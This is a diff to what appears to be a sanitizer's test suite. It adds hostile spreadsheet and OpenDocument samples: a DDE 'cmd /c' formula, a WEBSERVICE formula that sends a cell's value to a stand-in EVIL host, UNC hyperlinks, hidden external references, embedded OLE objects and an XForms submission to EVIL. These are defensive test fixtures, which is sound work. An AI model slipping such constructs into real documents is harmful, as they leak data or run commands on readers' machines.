@@ -45,6 +45,24 @@ HOSTILE = {
         ),
     ),
     "dde in a formula": ("xlsx", xlsx("<c r=\"B1\"><f>cmd|'/c EVIL'!A0</f><v>1</v></c>")),
+    "link of the network in a formula": (
+        "xlsx",
+        xlsx('<c r="B1"><f>HYPERLINK("\\\\\\\\EVIL\\\\x","y")</f><v>1</v></c>'),
+    ),
+    "values of another file, hidden": (
+        "xlsx",
+        xlsx(
+            book='<x:a xmlns:x="u"><externalReferences><externalReference r:id="EVIL"/></externalReferences></x:a>'
+        ),
+    ),
+    "object in a sheet": (
+        "xlsx",
+        xlsx(
+            after='<oleObjects><oleObject progId="Package" r:id="e"/></oleObjects>',
+            parts={"xl/embeddings/o.bin": "EVIL"},
+            links=[("e", "oleObject", "../embeddings/o.bin")],
+        ),
+    ),
     "question to the web": ("xlsx", xlsx('<c r="B1"><f>WEBSERVICE("http://EVIL/"&amp;A1)</f><v>1</v></c>')),
     "macro sheet": (
         "xlsx",
@@ -85,6 +103,22 @@ HOSTILE = {
     "picture of the network": ("odt", odf_link('<draw:image xlink:href="//EVIL/x.png"/>')),
     "picture of the disk": ("odt", odf_link('<draw:image xlink:href="../../EVIL.png"/>')),
     "object of elsewhere, open": ("odt", odf_link('<draw:object xlink:href="file:///EVIL.odt"/>')),
+    "data in the text": (
+        "odt",
+        odf_link("<draw:image><office:binary-data>TVpFVklM</office:binary-data></draw:image>"),
+    ),
+    "form that is sent": (
+        "odt",
+        odt(
+            '<x:model xmlns:x="http://www.w3.org/2002/xforms"><x:submission action="https://EVIL"/></x:model>'
+        ),
+    ),
+    "button of the network": (
+        "odt",
+        odt(
+            '<f:button xmlns:f="urn:oasis:names:tc:opendocument:xmlns:form:1.0" f:image-data="//EVIL/x.png" xlink:href="//EVIL/x"/>'
+        ),
+    ),
     "binary object": ("odt", odf_link('<draw:object-ole xlink:href="./EVIL"/>')),
     "frame of elsewhere": ("odt", odf_link('<draw:floating-frame xlink:href="https://EVIL.example"/>')),
     "part of elsewhere": (
